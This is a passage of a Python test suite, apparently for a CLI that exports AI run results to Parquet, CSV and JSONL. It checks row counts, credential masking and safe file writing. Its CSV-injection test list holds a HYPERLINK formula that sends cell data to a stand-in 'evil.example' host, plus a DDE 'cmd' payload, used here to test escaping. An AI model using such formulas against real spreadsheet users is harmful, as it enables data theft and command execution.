"""``prime-runs export`` and ``samples_df`` / ``runs_df``: the results of runs as tables.

The tables are read back by DuckDB and pandas, never by the code that wrote them, and
checked against what the spools themselves say: each run's episode count and its summary
(content/summary.py) computed from the spool's own episodes.
"""

from __future__ import annotations

import json
import math
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from fixtures.episodes import FAKE_ENV_SECRET, FAKE_HEADER_SECRET
from prime_runs_spool.content.summary import compute_summary
from prime_runs_spool.content.supersede import superseded_in_run
from prime_runs_spool.export.tables import export_file
from prime_runs_spool.spool.format import EPISODE, SEAL
from prime_runs_spool.spool.layout import find_runs, segment_path
from prime_runs_spool.spool.reader import iter_records
from prime_runs_spool.spool.writer import SegmentWriter

from support import moto_server
from support.env import CLI, VF040, child_env
from support.runs import RunBuilder, build_run, manifest_for
from support.cli import last_line, run_cli
from support.mounts import tmpfs

duckdb = pytest.importorskip("duckdb")
pd = pytest.importorskip("pandas")
pytest.importorskip("pyarrow")

moto = moto_server.module_fixture()

ROOT = Path(__file__).resolve().parent.parent
OUTPUTS = ROOT / "fixtures" / "outputs"
#: The cleartext credentials fixtures/make_outputs.py wrote into judge-credentials' config.
JUDGE_SECRETS = ("3f1c2b9e8d7a6f50.access", "cfs_EXAMPLE_NOT_A_REAL_SECRET", "hf_EXAMPLE_NOT_A_REAL_TOKEN")


def export(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(CLI + ["export", *args], capture_output=True, text=True, timeout=120, env=child_env(),
                          cwd=cwd)


def read(table: Path) -> str:
    """The DuckDB table function that reads ``table`` by its suffix."""
    function = {".parquet": "read_parquet", ".csv": "read_csv", ".jsonl": "read_json"}[table.suffix]
    return f"{function}('{table}')"


def spool_truth(run_dir: Path) -> tuple[str, int, dict, dict | None]:
    """(run id, effective episodes, summary of them, the seal's summary) from the spool itself."""
    superseded = superseded_in_run(run_dir)
    episodes, seal, run_id = [], None, None
    for record in iter_records(run_dir):
        if record.type == EPISODE and record.data.get("id") not in superseded:
            episodes.append(record.data)
        elif record.type == SEAL:
            seal = record.data
        elif record.type == "manifest" and run_id is None:
            run_id = record.data["run_id"]
    return run_id, len(episodes), compute_summary(episodes), (seal or {}).get("summary")


@pytest.mark.slow
def test_duckdb_reads_the_parquet_and_its_sums_are_the_spools_summaries(tmp_path: Path) -> None:
    out = tmp_path / "samples.parquet"
    result = export(str(OUTPUTS), "-o", str(out))
    assert result.returncode == 0, result.stderr
    runs = list(find_runs([OUTPUTS]))
    assert result.stdout.startswith(f"exported ") and f"from {len(runs)} run{'s' * (len(runs) != 1)} " in result.stdout
    by_run = {row[0]: row[1:] for row in duckdb.sql(
        f"SELECT run_id, count(*), sum(reward), avg(reward), avg(\"metric:correct\") FROM '{out}' GROUP BY run_id"
    ).fetchall()}
    assert len(by_run) == len(runs)
    for run_dir in runs:
        run_id, count, summary, sealed = spool_truth(run_dir)
        rows, reward_sum, reward_mean, correct_mean = by_run[run_id]
        assert rows == count
        # one trainable trace per episode here: the rows' mean is the run summary's
        assert math.isclose(reward_mean, summary["avg_reward"])
        assert math.isclose(reward_sum, summary["avg_reward"] * count)
        assert math.isclose(correct_mean, summary["avg_metrics"]["correct"])
        if sealed is not None:
            assert math.isclose(reward_mean, sealed["avg_reward"])
    assert oct(out.stat().st_mode & 0o777) == "0o600"


@pytest.mark.slow
def test_csv_and_jsonl_hold_the_same_rows_as_the_parquet(tmp_path: Path) -> None:
    tables = {}
    for fmt in ("parquet", "csv", "jsonl"):
        out = tmp_path / f"samples.{fmt}"
        assert export(str(OUTPUTS), "-o", str(out)).returncode == 0
        tables[fmt] = duckdb.sql(
            f"SELECT run_id, episode_id, rollout, reward, \"metric:correct\", ok, prompt_tokens, prompt, final_answer "
            f"FROM {read(out)} ORDER BY run_id, episode_id").fetchall()
    assert tables["parquet"] and tables["csv"] == tables["parquet"] and tables["jsonl"] == tables["parquet"]
    header = (tmp_path / "samples.csv").read_text().splitlines()[0].split(",")
    assert header[:8] == ["run_id", "run_name", "model", "environment", "episode_id", "example_id", "rollout", "reward"]
    assert "metric:correct" in header and header[-3:] == ["prompt", "final_answer", "reference_answer"]


@pytest.mark.slow
def test_runs_table_has_a_row_per_run_with_its_summary(tmp_path: Path) -> None:
    out = tmp_path / "runs.parquet"
    result = export(str(OUTPUTS), "--runs", "-o", str(out))
    assert result.returncode == 0, result.stderr
    rows = {row[0]: row[1:] for row in duckdb.sql(
        f"SELECT run_id, episodes, avg_reward, \"metric:correct\", status FROM '{out}'").fetchall()}
    for run_dir in find_runs([OUTPUTS]):
        run_id, count, summary, sealed = spool_truth(run_dir)
        episodes, avg_reward, correct, status = rows[run_id]
        assert episodes == count
        expected = sealed if sealed is not None else summary
        assert math.isclose(avg_reward, expected["avg_reward"])
        assert math.isclose(correct, expected["avg_metrics"]["correct"])
    assert rows["fixture-gsm8k-crashed-torn"][3] == "torn" and rows["fixture-gsm8k-failed"][3] == "failed"


def test_masked_values_stay_masked_in_every_format(tmp_path: Path) -> None:
    builder = build_run(tmp_path / "in" / "synthetic", "export-masked", 5)  # episodes masked at append
    shutil.copytree(OUTPUTS / "judge-credentials", tmp_path / "in" / "judge-credentials")
    for fmt in ("parquet", "csv", "jsonl"):
        for table in ((), ("--runs",)):
            out = tmp_path / f"t{len(table)}.{fmt}"
            assert export_file([tmp_path / "in"], out, per_run=bool(table)).problems == []
            cells = "\n".join(str(v) for row in duckdb.sql(f"SELECT * FROM {read(out)}").fetchall() for v in row)
            for secret in (*JUDGE_SECRETS, FAKE_HEADER_SECRET, FAKE_ENV_SECRET):
                assert secret not in cells and secret.encode() not in out.read_bytes()
            if table:  # the runs' configs are exported as stored: masked where they were masked
                [(config,)] = duckdb.sql(f"SELECT config FROM {read(out)} "
                                         "WHERE run_id = 'fixture-judge-credentials'").fetchall()
                headers = json.loads(config)["client"]["headers"]
                assert headers == {"CF-Access-Client-Id": "***", "CF-Access-Client-Secret": "***"}
    assert builder.ids


@pytest.mark.slow
def test_plain_eval_outputs_are_named_with_the_import_command(tmp_path: Path) -> None:
    shutil.copytree(ROOT / "fixtures" / "eval_outputs" / "vf040-completed", tmp_path / "in" / "vf040-completed")
    shutil.copytree(OUTPUTS / "gsm8k-completed", tmp_path / "in" / "gsm8k-completed")
    out = tmp_path / "s.jsonl"
    result = export(str(tmp_path / "in"), "-o", str(out))
    assert result.returncode == 1
    [line] = result.stderr.splitlines()
    assert line == (f"prime-runs: {tmp_path / 'in' / 'vf040-completed'}: eval outputs without a spool; "
                    f"spool them first: prime-runs import {tmp_path / 'in' / 'vf040-completed'}")
    assert len(out.read_text().splitlines()) == 6  # the spooled run is exported all the same
    state = tmp_path / "state"
    imported = subprocess.run(CLI + ["import", str(tmp_path / "in" / "vf040-completed"), "--state-dir", str(state)],
                              capture_output=True, text=True, env=child_env())
    assert imported.returncode == 0, imported.stderr
    again = export(str(tmp_path / "in"), "--state-dir", str(state), "-o", str(out))
    assert again.returncode == 0, again.stderr
    rows = [json.loads(line) for line in out.read_text().splitlines()]
    episodes = len((tmp_path / "in" / "vf040-completed" / "traces.jsonl").read_text().splitlines())
    assert len(rows) == 6 + episodes and {row["run_name"] for row in rows} >= {"gsm8k-completed"}


@pytest.mark.slow  # three exports
def test_eval_outputs_with_no_episode_yet_are_nothing_to_export_not_a_failure(tmp_path: Path) -> None:
    """An empty ``traces.jsonl`` (a vf-eval that has just begun, or ended before its first
    rollout) made the export exit 1, telling to import it first; the import finds nothing
    to import, and the next export said the same. Now it is passed over; alone under the
    paths it is nothing to export (exit 1, one line, no file)."""
    shutil.copytree(OUTPUTS / "gsm8k-completed", tmp_path / "in" / "gsm8k-completed")
    starting = tmp_path / "in" / "starting"
    (starting / "configs").mkdir(parents=True)
    (starting / "traces.jsonl").write_bytes(b"")
    out = tmp_path / "s.csv"
    result = export(str(tmp_path / "in"), "-o", str(out))
    assert (result.returncode, result.stderr) == (0, ""), result.stderr
    assert len(duckdb.sql(f"SELECT * FROM {read(out)}").fetchall()) == 6

    alone = export(str(starting), "-o", str(tmp_path / "alone.csv"), "--json")
    assert alone.returncode == 1 and not (tmp_path / "alone.csv").exists()
    said = "nothing to export: no spool, and no eval output with an episode, under the paths; no file written"
    assert alone.stderr == f"prime-runs: {said}\n"
    assert json.loads(alone.stdout)["problems"] == [said]

    (starting / "traces.jsonl").write_bytes(b'{"id": "torn')  # a first line not yet whole: still none
    assert export(str(tmp_path / "in"), "-o", str(out)).returncode == 0


@pytest.mark.slow
def test_a_corrupt_run_keeps_its_rows_before_the_damage_and_the_others_go_on(tmp_path: Path) -> None:
    good = build_run(tmp_path / "in" / "good", "export-good", 4)
    bad = build_run(tmp_path / "in" / "bad", "export-bad", 6)
    segment = segment_path(bad.run_dir, 1)
    lines = segment.read_bytes().splitlines(keepends=True)
    damaged = bytearray(lines[5])  # header, manifest, 3 episodes intact; the 4th damaged
    damaged[len(damaged) // 2] ^= 0x01
    segment.write_bytes(b"".join(lines[:5]) + bytes(damaged) + b"".join(lines[6:]))
    out = tmp_path / "s.csv"
    result = export(str(tmp_path / "in"), "-o", str(out))
    assert result.returncode == 1
    [line] = result.stderr.splitlines()
    assert line.startswith(f"prime-runs: {segment}: corrupt at byte ") and "rows before it were exported" in line
    frame = pd.read_csv(out)
    assert frame.groupby("run_id").size().to_dict() == {"export-bad": 3, "export-good": 4}
    as_json = export(str(tmp_path / "in"), "-o", str(out), "--json")
    document = json.loads(as_json.stdout)
    assert as_json.returncode == 1 and (document["ok"], document["runs"], document["rows"]) == (False, 2, 7)
    assert document["problems"] == [line.removeprefix("prime-runs: ")] and "metric:correct" in document["columns"]
    assert good.ids


@pytest.mark.slow
def test_usage_errors_are_one_line_and_exit_2(tmp_path: Path) -> None:
    build_run(tmp_path / "run", "export-usage", 2)
    for args, words in ((["-o", str(tmp_path / "x.txt")], "--format"),
                        (["-o", str(tmp_path / "no" / "x.csv")], "does not exist"),
                        (["--format", "xml", "-o", str(tmp_path / "x")], "xml")):
        result = export(str(tmp_path / "run"), *args)
        assert result.returncode == 2 and words in result.stderr and "Traceback" not in result.stderr, result.stderr
    missing = export(str(tmp_path / "nowhere"), "-o", str(tmp_path / "x.csv"))
    assert missing.returncode == 2 and "Traceback" not in missing.stderr
    empty = tmp_path / "empty"
    empty.mkdir()
    nothing = export(str(empty), "-o", str(tmp_path / "x.csv"))
    assert nothing.returncode == 1 and "nothing found" in nothing.stderr and not (tmp_path / "x.csv").exists()


@pytest.mark.slow
def test_an_export_never_replaces_a_file_a_run_is_made_of(tmp_path: Path) -> None:
    """``-o`` naming a spool segment (or anything in a run's spool folder) or the eval's own
    ``traces.jsonl`` replaced it whole with the table: the run's episodes gone, exit 0. Now
    it is bad usage (exit 2), said in one line, and every file of the run is as it was; a
    table beside the run's files is still written."""
    run_dir = tmp_path / "outputs" / "run"
    shutil.copytree(VF040, run_dir)
    assert subprocess.run(CLI + ["import", str(run_dir)], capture_output=True, env=child_env()).returncode == 0
    files = {path: path.read_bytes() for path in run_dir.rglob("*") if path.is_file()}
    segment = segment_path(run_dir, 1)
    for out in (segment, segment.parent / "new.jsonl", segment.parent / "sync" / "x.csv", run_dir / "traces.jsonl",
                tmp_path / "outputs" / "run" / "spool" / ".." / "spool" / "seg-000009.jsonl"):
        result = export(str(tmp_path / "outputs"), "--format", "jsonl", "-o", str(out))
        assert result.returncode == 2, (out, result.stdout, result.stderr)
        assert last_line(result).startswith(f"prime-runs: {out}: "), result.stderr
        assert "write the table elsewhere" in result.stderr and "Traceback" not in result.stderr, result.stderr
    assert {path: path.read_bytes() for path in run_dir.rglob("*") if path.is_file()} == files
    beside = export(str(tmp_path / "outputs"), "-o", str(run_dir / "episodes.jsonl"))
    assert beside.returncode == 0, beside.stderr
    assert len((run_dir / "episodes.jsonl").read_text().splitlines()) == len(
        (run_dir / "traces.jsonl").read_text().splitlines())


def test_parquet_without_pyarrow_says_which_extra(tmp_path: Path) -> None:
    build_run(tmp_path / "run", "export-noarrow", 2)
    code = ("import sys; sys.modules['pyarrow'] = None; sys.argv = ['prime-runs'] + sys.argv[1:]; "
            "from commands.cli import main; main()")
    result = subprocess.run([sys.executable, "-c", code, "export", str(tmp_path / "run"), "-o",
                             str(tmp_path / "s.parquet")], capture_output=True, text=True, env=child_env())
    assert result.returncode == 2 and "pip install pyarrow" in result.stderr, result.stderr
    assert "pip install -e '.[export]'" in result.stderr, result.stderr
    assert not list(tmp_path.glob("*.parquet")) and not list(tmp_path.glob(".*.tmp"))


@pytest.mark.slow
def test_samples_df_and_runs_df_match_the_exported_file(tmp_path: Path) -> None:
    from prime_runs_spool import runs_df, samples_df

    out = tmp_path / "s.parquet"
    assert export(str(OUTPUTS), "-o", str(out)).returncode == 0
    frame = samples_df(OUTPUTS)
    stored = pd.read_parquet(out)
    assert list(frame.columns) == list(stored.columns) and len(frame) == len(stored)
    assert frame["reward"].sum() == stored["reward"].sum()
    assert frame["episode_id"].tolist() == stored["episode_id"].tolist()
    runs = runs_df([OUTPUTS / "gsm8k-completed", OUTPUTS / "gsm8k-failed"])
    assert sorted(runs["status"]) == ["completed", "failed"] and runs["episodes"].sum() == len(
        frame[frame["run_id"].isin(["fixture-gsm8k-completed", "fixture-gsm8k-failed"])])


def test_samples_df_raises_for_a_run_it_cannot_read_whole_unless_told_not_to(tmp_path: Path) -> None:
    from prime_runs_spool import samples_df
    from prime_runs_spool.errors import ExportError

    shutil.copytree(ROOT / "fixtures" / "eval_outputs" / "vf040-completed", tmp_path / "vf")
    with pytest.raises(ExportError, match="prime-runs import"):
        samples_df(tmp_path)
    build_run(tmp_path / "run", "export-df", 3)
    with pytest.warns(UserWarning, match="prime-runs import"):
        assert len(samples_df(tmp_path, strict=False)) == 3


def test_a_live_run_is_read_to_the_same_records_by_both_passes(tmp_path: Path) -> None:
    """What a writer appends between the two passes (a new metric name included) waits for
    the next export: every row written has a column for each of its metrics."""
    from prime_runs_spool.export import tables
    from prime_runs_spool.export.reading import find

    builder = RunBuilder(tmp_path / "live", "export-live")
    builder.open_segment()
    builder.add(4)
    found = find([tmp_path / "live"])
    report = tables.ExportReport()
    plan = tables._plan_samples(found.runs, report.problems)
    episode = {"id": "late", "ok": True, "traces": [{"task": {"data": {"idx": 99}}, "agent": {"trainable": True},
                                                      "metrics": {"late_metric": 1.0}}]}
    builder.writer.append("episode", episode, {"episode_id": "late", "rollout_number": 1})
    builder.wait_for_mark()
    rows = list(tables._sample_rows(found.runs, plan, report))
    assert len(rows) == 4 and "late_metric" not in plan.names and not report.problems
    builder.seal()
    assert len(tables.samples_df(tmp_path / "live")) == 5  # the next export has it


@pytest.mark.slow
def test_export_from_a_folder_url_equals_the_local_export(tmp_path: Path) -> None:
    build_run(tmp_path / "bucket" / "outputs" / "run-a", "export-url-a", 3)
    build_run(tmp_path / "bucket" / "outputs" / "run-b", "export-url-b", 2)
    local, remote = tmp_path / "local.jsonl", tmp_path / "remote.jsonl"
    assert export(str(tmp_path / "bucket" / "outputs"), "-o", str(local)).returncode == 0
    result = export(f"file://{tmp_path}/bucket/outputs", "-o", str(remote))
    assert result.returncode == 0, result.stderr
    assert remote.read_text() == local.read_text() and len(local.read_text().splitlines()) == 5


@pytest.mark.slow
def test_export_from_a_bucket_equals_the_local_export(tmp_path: Path, moto) -> None:
    from support.store_runs import upload_run

    url = f"s3://{moto.new_bucket()}/outputs"
    for name in ("gsm8k-completed", "gsm8k-resumed", "judge-credentials"):
        upload_run(url, OUTPUTS / name, name)
        shutil.copytree(OUTPUTS / name, tmp_path / "local" / name)
    local, remote = tmp_path / "local.csv", tmp_path / "remote.csv"
    assert export(str(tmp_path / "local"), "-o", str(local)).returncode == 0
    result = subprocess.run(CLI + ["export", url, "-o", str(remote)], capture_output=True, text=True, timeout=120,
                            env=child_env(**moto.env()))
    assert result.returncode == 0, result.stderr
    assert remote.read_bytes() == local.read_bytes() and len(pd.read_csv(local)) == 6 + 6 + 4


#: Texts a spreadsheet runs as a formula (OWASP's CSV injection list), and some it does not.
FORMULAS = ('=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
            "-", "-inf")
NOT_FORMULAS = ("-3", "+0.5", "-1e-06", ".5", "plain", "1-2", "a=b", "")


def _csv_rows(path: Path) -> list[dict[str, str]]:
    import csv

    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


@pytest.mark.slow
def test_csv_text_a_spreadsheet_would_run_begins_with_a_quote_and_nothing_else_changes(tmp_path: Path) -> None:
    """A prompt, an answer or a run's name beginning ``=``, ``+``, ``-``, ``@``, a tab or a CR
    was written to the CSV as it was, so a spreadsheet opening the export ran it as a formula
    (``=HYPERLINK`` sends a cell's data away). Such a text cell now begins with ``'`` (and so
    does one that began with ``'``, so the value is always the cell less one ``'``); a plain
    number (``-3``) stays as it is, numbers are no text, and ``--csv-raw`` writes every text
    as it is. Read back, the table is the JSONL export's, value for value."""
    texts = [*FORMULAS, *NOT_FORMULAS, "'already quoted", "''twice"]
    writer = SegmentWriter.create(tmp_path / "run", "formulas")
    writer.append("manifest", manifest_for("formulas", name="=cmd|' /C calc'!A0"))
    for n, text in enumerate(texts):
        trace = {"task": {"data": {"idx": n, "prompt": text, "answer": text}}, "agent": {"trainable": True},
                 "rewards": {"correct": {"score": -0.5, "weight": 1.0}},
                 "nodes": [{"message": {"role": "user", "content": text}},
                           {"parent": 0, "message": {"role": "assistant", "content": text}}]}
        writer.append("episode", {"id": f"e{n}", "ok": True, "traces": [trace]},
                      {"episode_id": f"e{n}", "rollout_number": 1})
    writer.seal("completed")
    tables = {}
    for name, args in (("safe", ()), ("raw", ("--csv-raw",))):
        for runs in ((), ("--runs",)):
            out = tmp_path / f"{name}{len(runs)}.csv"
            result = export(str(tmp_path / "run"), *args, *runs, "-o", str(out))
            assert result.returncode == 0, result.stderr
            tables[name, bool(runs)] = _csv_rows(out)
    for runs in ((), ("--runs",)):
        out = tmp_path / f"truth{len(runs)}.jsonl"
        assert export(str(tmp_path / "run"), *runs, "-o", str(out)).returncode == 0
        truth = [json.loads(line) for line in out.read_text().splitlines()]
        as_csv = [{k: "" if v is None else "true" if v is True else "false" if v is False else str(v)
                   for k, v in row.items()} for row in truth]
        raw, safe = tables["raw", bool(runs)], tables["safe", bool(runs)]
        assert raw == as_csv  # --csv-raw: every value as it is
        assert [{k: v[1:] if v.startswith("'") else v for k, v in row.items()} for row in safe] == as_csv
        for safe_row, row in zip(safe, truth):
            for key, value in row.items():
                cell = safe_row[key]
                if isinstance(value, str) and value.startswith((*"=+@\t\r'", "-")) and value not in NOT_FORMULAS:
                    assert cell == "'" + value, (key, value, cell)
                else:
                    assert cell == as_csv[truth.index(row)][key], (key, value, cell)
                assert not cell.startswith(tuple("=+-@\t\r")) or cell in NOT_FORMULAS or (
                    isinstance(value, (int, float))), (key, cell)  # what a spreadsheet reads as a number
    assert tables["safe", True][0]["run_name"] == "'=cmd|' /C calc'!A0"
    samples = {row["episode_id"]: row for row in tables["safe", False]}
    for n, text in enumerate(texts):
        row = samples[f"e{n}"]
        want = "'" + text if text in FORMULAS or text.startswith("'") else text
        assert (row["prompt"], row["final_answer"], row["reference_answer"]) == (want, want, want), row
    # a program reading the numbers reads the same as from the JSONL: nothing numeric changed
    csv_numbers = duckdb.sql(f"SELECT episode_id, reward, \"metric:correct\" FROM read_csv('{tmp_path / 'safe0.csv'}') "
                             "ORDER BY episode_id").fetchall()
    json_numbers = duckdb.sql(f"SELECT episode_id, reward, \"metric:correct\" FROM "
                              f"read_json('{tmp_path / 'truth0.jsonl'}') ORDER BY episode_id").fetchall()
    assert csv_numbers == json_numbers and {reward for _, reward, _ in csv_numbers} == {-0.5}
    refused = export(str(tmp_path / "run"), "--csv-raw", "-o", str(tmp_path / "t.jsonl"))
    assert (refused.returncode, refused.stderr.count("\n")) == (2, 1) and "--csv-raw" in refused.stderr, refused.stderr
    assert not (tmp_path / "t.jsonl").exists()


METRIC_NAMES = st.text(st.characters(blacklist_categories=("Cs",)), max_size=12)
VALUES = st.one_of(st.none(), st.floats(allow_nan=True, allow_infinity=True), st.integers(-10**6, 10**6))
TEXTS = st.text(st.characters(blacklist_categories=("Cs",)), max_size=60)


@pytest.mark.slow
@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(episodes=st.lists(st.tuples(st.dictionaries(METRIC_NAMES, VALUES, max_size=4), TEXTS, TEXTS),
                         min_size=1, max_size=5))
def test_any_metric_names_values_and_texts_read_back_the_same_in_every_format(tmp_path_factory, episodes) -> None:
    """Metric names with quotes, commas, line breaks or nothing at all; non-finite values
    (empty, as the spool holds them: null); prompts and answers of any text: each format
    reads back as what the spool holds."""
    folder = tmp_path_factory.mktemp("hyp")
    writer = SegmentWriter.create(folder / "run", "hyp-run")
    writer.append("manifest", manifest_for("hyp-run"))
    expected = []
    for n, (metrics, prompt, answer) in enumerate(episodes):
        trace = {"task": {"data": {"idx": n, "prompt": prompt}}, "agent": {"trainable": True}, "metrics": metrics,
                 "nodes": [{"message": {"role": "user", "content": prompt}},
                           {"parent": 0, "message": {"role": "assistant", "content": answer}}]}
        writer.append("episode", {"id": f"e{n}", "ok": True, "traces": [trace]}, {"episode_id": f"e{n}",
                                                                                  "rollout_number": 1})
        numbers = {name: (float(v) if v is not None and math.isfinite(v) else None) for name, v in metrics.items()}
        expected.append((f"e{n}", prompt, answer, numbers))
    writer.seal("completed")
    names = list(dict.fromkeys(name for _, _, _, numbers in expected for name in numbers))
    for fmt in ("parquet", "csv", "jsonl"):
        out = folder / f"t.{fmt}"
        report = export_file([folder / "run"], out)  # in this process: a hundred examples in seconds
        assert (report.rows, report.problems) == (len(episodes), [])
        if fmt == "parquet":
            frame = pd.read_parquet(out)
        elif fmt == "csv":  # a text cell beginning with ' had one added (a spreadsheet runs no formula)
            frame = pd.read_csv(out, dtype=str, keep_default_na=False).map(
                lambda cell: cell[1:] if cell.startswith("'") else cell)
        else:
            frame = pd.DataFrame([json.loads(line) for line in out.read_bytes().split(b"\n")[:-1]])
        assert [c for c in frame.columns if c.startswith("metric:")] == [f"metric:{name}" for name in names]
        for (episode_id, prompt, answer, numbers), (_, row) in zip(expected, frame.iterrows()):
            assert row["episode_id"] == episode_id
            assert (row["prompt"], row["final_answer"]) == (prompt, answer) or fmt == "csv" and (
                (row["prompt"], row["final_answer"]) == (prompt or "", answer or ""))
            for name in names:
                cell = row[f"metric:{name}"]
                want = numbers.get(name)
                if fmt == "csv":
                    assert cell == ("" if want is None else repr(want))
                elif want is None:
                    assert cell is None or (isinstance(cell, float) and math.isnan(cell))
                else:
                    assert cell == want


@pytest.mark.slow
def test_export_memory_does_not_grow_with_the_run(tmp_path: Path) -> None:
    """Peak RSS of an export of 12,000 episodes of ~4 KB (about 45 MB of spool) against one
    of 3,000: a run is never held, so four times the episodes cost little more memory. Both
    fill at least one Parquet row group (8 MiB of text), so the one group a writer holds is
    in both figures and the difference is what grows with the run."""
    peaks = {}
    for count in (3_000, 12_000):
        build_run(tmp_path / f"run-{count}", f"export-mem-{count}", count, size=4_000)
        for fmt in ("parquet", "csv"):
            peak_file = tmp_path / f"peak-{count}-{fmt}"
            subprocess.run([sys.executable, str(ROOT / "fixtures" / "peak_rss.py"), str(peak_file), *CLI, "export",
                            str(tmp_path / f"run-{count}"), "-o", str(tmp_path / f"out-{count}.{fmt}")],
                           check=True, env=child_env(), capture_output=True)
            peaks[count, fmt] = int(peak_file.read_text()) / 1024
    for fmt in ("parquet", "csv"):
        assert peaks[12_000, fmt] - peaks[3_000, fmt] < 40, peaks  # holding the run: hundreds of MB more
    assert os.path.getsize(tmp_path / "out-12000.csv") > 12_000 * 2_000


@pytest.mark.slow
def test_an_export_writes_no_page_through_a_link_and_leaves_none_readable_by_others(tmp_path: Path) -> None:
    """Pages were opened O_CREAT|O_TRUNC: through a symbolic link planted in an export
    folder someone else prepared (the link's target, a file of the user's, overwritten
    with a page), and keeping an older file's mode (0644: the runs' prompts for all)."""
    import stat

    build_run(tmp_path / "runs" / "r", "export-links", 1)
    out = tmp_path / "report"
    out.mkdir()
    (out / "static").mkdir()
    older = out / "static" / "viewer.css"
    older.write_text("old")
    older.chmod(0o644)
    victim = tmp_path / "bashrc"
    victim.write_text("the user's own file\n")
    (out / "index.html").symlink_to(victim)
    result = run_cli("view", "--export", str(out), str(tmp_path / "runs"), timeout=60)
    assert victim.read_text() == "the user's own file\n"
    assert result.returncode == 2 and "index.html" in last_line(result), (result.returncode, result.stderr)
    (out / "index.html").unlink()
    result = run_cli("view", "--export", str(out), str(tmp_path / "runs"), timeout=60)
    assert result.returncode == 0, result.stderr
    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in out.rglob("*") if p.is_file()}
    assert set(modes.values()) == {0o600}, modes


@pytest.mark.slow
def test_an_export_refuses_a_fifo_where_a_page_goes_rather_than_waiting_on_it(tmp_path: Path) -> None:
    """A page was opened for writing as it was found: a FIFO planted in an export folder
    someone else prepared held ``open`` until something read it, so the export hung."""
    build_run(tmp_path / "runs" / "r", "export-fifo", 1)
    out = tmp_path / "report"
    out.mkdir()
    os.mkfifo(out / "index.html")
    result = run_cli("view", "--export", str(out), str(tmp_path / "runs"), timeout=60)
    assert result.returncode == 2, (result.returncode, result.stderr)
    assert last_line(result).endswith("index.html: cannot be written (not a regular file)"), result.stderr


def test_an_export_to_a_fifo_a_socket_or_a_device_replaces_none_of_them(tmp_path: Path) -> None:
    """``-o /dev/null`` (or ``/dev/stdout``, a named pipe) was written beside it and renamed
    over it: the device (for root, ``/dev/null`` itself) or the pipe replaced by a regular
    file, and "exported N rows" said. Now it is bad usage (exit 2) in one line, nothing
    read or written, and each stays what it was."""
    import socket
    import stat

    build_run(tmp_path / "runs" / "r", "export-special", 2)
    fifo = tmp_path / "pipe.jsonl"
    os.mkfifo(fifo)
    sock_path = tmp_path / "s.csv"
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(sock_path))
    targets = [(fifo, stat.S_ISFIFO, "a FIFO"), (sock_path, stat.S_ISSOCK, "a socket")]
    if os.geteuid() == 0:  # a device of its own, as /dev/null is: never the machine's, which it could replace
        device = tmp_path / "null.csv"
        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
        targets.append((device, stat.S_ISCHR, "a device"))
    try:
        for out, kind_of, kind in targets:
            result = export(str(tmp_path / "runs"), "--format", "csv", "-o", str(out))
            assert result.returncode == 2, (out, result.stdout, result.stderr)
            assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr, result.stderr
            assert last_line(result) == (f"prime-runs: {out}: it is {kind}, not a regular file: the export writes a "
                                         "file and renames it into place, which would replace it; give the path of "
                                         "a file"), result.stderr
            assert kind_of(os.lstat(out).st_mode), f"{out} was replaced"
            assert not result.stdout
    finally:
        listener.close()
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["pipe.jsonl", "runs", "s.csv", *(["null.csv"] if os.geteuid() == 0 else [])]), "no temporary file left"




@pytest.mark.parametrize("target", ["/proc/self/fd/1", "/dev/stdout", "relative"])
def test_an_export_to_a_link_to_standard_output_replaces_no_link(tmp_path: Path, target: str) -> None:
    """``-o /dev/stdout`` with standard output sent to a file (``> table.csv``): followed, the
    link is a regular file, so the export wrote beside it and renamed over it, 'exported 2
    rows ... to /dev/stdout', exit 0: for root, /dev/stdout itself became a file of the
    table (every later ``> /dev/stdout`` of the machine wrote there), and the stream got
    nothing. A link of one's own to a stream is the same (the machine's /dev is not touched
    here). Now bad usage, one line, nothing written."""
    build_run(tmp_path / "runs" / "r", "export-stream", 2)
    link = tmp_path / "out.csv"
    if target == "relative":
        link.symlink_to(os.path.relpath("/proc/self/fd/1", tmp_path))
    else:
        link.symlink_to(target)
    with open(tmp_path / "table.csv", "wb") as stdout:
        result = subprocess.run([*CLI, "export", str(tmp_path / "runs"), "-o", str(link)], stdout=stdout,
                                stderr=subprocess.PIPE, text=True, env=child_env(), timeout=60)
    assert result.returncode == 2, result.stderr
    assert result.stderr.count("\n") == 1 and "the table is never standard output" in result.stderr, result.stderr
    assert link.is_symlink(), "the link was replaced"
    assert (tmp_path / "table.csv").read_bytes() == b""
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv", "runs", "table.csv"], "no temporary file left"


@pytest.mark.parametrize("kind", ["empty", "blanks", "dash", "below a file", "below a dangling link",
                                  "below a link loop"])
def test_an_output_no_file_can_be_written_at_is_one_line_naming_what_is_in_the_way(tmp_path: Path, kind: str) -> None:
    """``-o ""`` (``-o "$OUT"`` unset) was the current folder: 'prime-runs: .: cannot be
    written (Device or resource busy)', exit 1; ``-o "  "`` wrote a file so named; a path
    below a file, a symbolic link to nothing or a loop of them was told 'its folder ... does
    not exist' of a folder that is a file or a link; ``-o -`` wrote a file named ``-`` where
    the user looked for standard output. One line naming what is wrong, exit 2, nothing
    written."""
    build_run(tmp_path / "runs" / "r", "export-bad-output", 2)
    work = tmp_path / "work"
    work.mkdir()
    (tmp_path / "afile").write_text("x\n")
    (tmp_path / "mnt").symlink_to(tmp_path / "not-mounted")
    (tmp_path / "loop-a").symlink_to(tmp_path / "loop-b")
    (tmp_path / "loop-b").symlink_to(tmp_path / "loop-a")
    out = {"empty": "", "blanks": "  ", "dash": "-", "below a file": str(tmp_path / "afile" / "t.jsonl"),
           "below a dangling link": str(tmp_path / "mnt" / "t.jsonl"),
           "below a link loop": str(tmp_path / "loop-a" / "t.jsonl")}[kind]
    said = {"empty": "prime-runs: invalid value for '-o' / '--output': an empty path names no file",
